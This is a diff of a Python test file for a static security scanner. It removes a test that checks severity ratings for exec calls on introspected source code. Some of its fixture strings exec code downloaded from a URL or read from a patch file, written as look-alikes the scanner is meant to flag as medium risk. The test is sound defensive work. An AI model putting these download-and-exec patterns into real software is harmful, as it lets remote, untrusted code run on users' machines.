@@ -269,31 +269,6 @@ def test_eval_of_the_operators_own_arguments_is_low_and_of_data_or_a_parameter_k
     assert b307 == [(3, "low"), (4, "low"), (6, "medium"), (8, "medium"), (9, "medium"), (11, "low"), (16, "low")]
 
 
-def test_exec_of_imported_codes_own_source_with_constant_edits_is_low(tmp_path: Path) -> None:
-    """A monkeypatch: `inspect.getsource` reads the source of code already imported from that
-    code's own file, edited with constants and run again (even into `globals()`). Look-alikes: the
-    same source joined with a download's or a file's text, a `getsource` the file defines itself,
-    and an `inspect` bound to something else."""
-    source = (
-        "import inspect\nimport textwrap\nimport requests\nimport shap.plots._waterfall\n"
-        "from transformers import Trainer\n"
-        "source = inspect.getsource(shap.plots._waterfall)\n"
-        "exec(source.replace('as pl', 'as plt'), shap.plots._waterfall.__dict__)\n"
-        "body = textwrap.dedent(inspect.getsource(Trainer.evaluation_loop)).replace('def a(', 'def b(', 1)\n"
-        "exec(body, globals())\n"
-        "lines, _ = inspect.getsourcelines(Trainer.train)\n"
-        "exec(''.join(lines), globals())\n"
-        "exec(source + requests.get('https://example.com/p.py', timeout=5).text)\n"
-        "exec(source.replace('x', open('patch.txt').read()))\n"
-    )
-    b102 = sorted((f.line, f.severity.value) for f in scan_code(tmp_path, source) if f.rule_id == "B102")
-    assert b102 == [(7, "low"), (9, "low"), (11, "low"), (12, "medium"), (13, "medium")]
-    own = "import requests\ndef getsource(x):\n    return requests.get(x, timeout=5).text\nexec(getsource('https://e/x'))\n"
-    assert [f.severity.value for f in scan_code(tmp_path, own) if f.rule_id == "B102"] == ["medium"]
-    rebound = "import inspect\ninspect = Remote()\nexec(inspect.getsource(x))\n"
-    assert [f.severity.value for f in scan_code(tmp_path, rebound) if f.rule_id == "B102"] == ["medium"]
-
-
 def test_eval_of_a_choice_or_length_of_the_operators_arguments_is_low_and_a_configuration_object_is_not(
     tmp_path: Path,
 ) -> None:
